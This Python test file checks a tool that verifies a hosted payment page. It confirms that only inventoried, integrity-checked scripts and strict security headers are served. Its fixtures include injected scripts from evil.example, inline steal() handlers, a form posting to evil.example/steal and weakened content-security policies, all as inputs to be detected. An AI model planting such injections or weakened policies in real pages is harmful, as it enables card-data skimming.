"""The inventory of scripts is what is served, and a page that differs from it is told apart."""

from app.core import scripts
from app.core.scripts import differences, inventory

HOSTED = next(script for script in inventory() if script.address == "/hosted/hosted.js")
CONTENT = (scripts.ROOT / HOSTED.file).read_bytes()
HEADERS = {
    "content-security-policy": "default-src 'none'; script-src 'nonce-n'; style-src 'self' 'nonce-n'; img-src 'self'; "
    "connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
    "integrity-policy": "blocked-destinations=(script)",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
}
TAG = f'<script src="/hosted/hosted.js?v=1" integrity="{HOSTED.integrity}" nonce="n" defer></script>'


def found(html: str = TAG, content: bytes = CONTENT, **headers: str) -> list[str]:
    changed = {**HEADERS, **{name.replace("_", "-"): value for name, value in headers.items()}}
    return differences(f"<html><body>{html}</body></html>", changed, lambda path: content)


def test_every_script_that_a_door_for_payers_serves_stands_in_the_inventory_with_its_purpose():
    static = {
        str(file.relative_to(scripts.ROOT))
        for file in (scripts.ROOT / "hosted_pages" / "static").rglob("*")
        if file.suffix in (".js", ".mjs")
    }
    assert static == {script.file for script in inventory()}
    for script in inventory():
        assert len(script.purpose) > 40 and script.where
        said = "run `flask --app wsgi scripts write` and read the difference"
        assert scripts.digest((scripts.ROOT / script.file).read_bytes()) == script.integrity, said


def test_a_page_with_our_script_alone_is_right():
    assert found() == []


def test_whatever_else_runs_is_found():
    assert found(TAG + '<script src="https://evil.example/x.js" nonce="n"></script>') == [
        "not in the inventory: https://evil.example/x.js"
    ]
    assert found(TAG + '<script src="/hosted/other.js" nonce="n"></script>') == [
        "not in the inventory: /hosted/other.js"
    ]
    assert found(TAG + '<script nonce="n">steal()</script>') == ["runs in the page itself: <script>"]
    assert found(TAG + '<p onclick="steal()">') == ["runs in the page itself: <p onclick>"]
    assert found(TAG + '<a href="JavaScript:steal()">') == ["runs in the page itself: <a javascript:>"]
    assert found(TAG + '<iframe src="/x"></iframe>') == ["runs in the page itself: <iframe>"]
    assert found(TAG.replace("/hosted/hosted.js", "//evil.example/hosted/hosted.js")) == [
        "not in the inventory: //evil.example/hosted/hosted.js?v=1"
    ]


def test_a_changed_script_and_a_tag_without_integrity_are_found():
    assert found(content=CONTENT + b"\n") == ["its content is another: /hosted/hosted.js?v=1"]
    bare = TAG.replace(f' integrity="{HOSTED.integrity}"', "")
    assert found(bare) == ["its tag has another integrity: /hosted/hosted.js?v=1"]
    assert "the page has no script at all" in found("", content_security_policy="default-src 'none'")


def test_weaker_headers_are_found():
    policy = HEADERS["content-security-policy"]
    for weaker in (
        policy.replace("'nonce-n'", "'nonce-n' 'unsafe-inline'"),
        policy.replace("'nonce-n'", "'nonce-n' https://evil.example"),
        policy.replace("default-src 'none'", "default-src *"),
        policy.replace("frame-ancestors 'none'; ", ""),
        *(
            policy.replace(f"{name} 'self'", f"{name} *")
            for name in ("style-src", "img-src", "connect-src", "form-action")
        ),
        *(
            policy.replace("frame-ancestors 'none'", f"frame-ancestors {who}")
            for who in ("*", "https:", "https://*.de")
        ),
        policy.replace("; form-action 'self'", "; form-action 'self' https://evil.example"),
        f"form-action *; {policy}",
        f"{policy}; frame-src *",
        f"{policy}; script-src-elem *",
        "",
    ):
        assert found(content_security_policy=weaker), weaker
    assert found(integrity_policy="") == ["integrity-policy is not blocked-destinations=(script)"]
    assert found(x_content_type_options="") == ["x-content-type-options is not nosniff"]
    assert found(referrer_policy="unsafe-url") == ["referrer-policy is not no-referrer"]


def test_a_shop_that_frames_it_is_right():
    policy = HEADERS["content-security-policy"].replace(
        "frame-ancestors 'none'", "frame-ancestors https://shop.example"
    )
    assert found(content_security_policy=policy) == []


def test_what_sends_elsewhere_or_loads_from_elsewhere_is_found():
    fine = (
        '<form action="/pay/x"></form><link rel="stylesheet" href="/hosted/hosted.css"><link rel="icon" href="/i.svg">'
    )
    assert found(f'{TAG}{fine}<noscript><meta http-equiv="refresh" content="20"></noscript><meta name="robots">') == []
    for html, said in (
        ('<form action="https://evil.example/steal">', "a form is sent elsewhere: https://evil.example/steal"),
        ('<form action="\\\\evil.example">', "a form is sent elsewhere: \\\\evil.example"),
        ('<button formaction="//evil.example">', "a form is sent elsewhere: //evil.example"),
        (
            '<link rel="stylesheet" href="https://evil.example/x.css">',
            "a link of the page: stylesheet https://evil.example/x.css",
        ),
        ('<link rel="modulepreload" href="/x.js">', "a link of the page: modulepreload /x.js"),
        ('<base href="https://evil.example">', "runs in the page itself: <base>"),
        (
            '<meta http-equiv="refresh" content="5;url=https://evil.example">',
            "a meta of the page: refresh 5;url=https://evil.example",
        ),
    ):
        assert found(TAG + html) == [said]
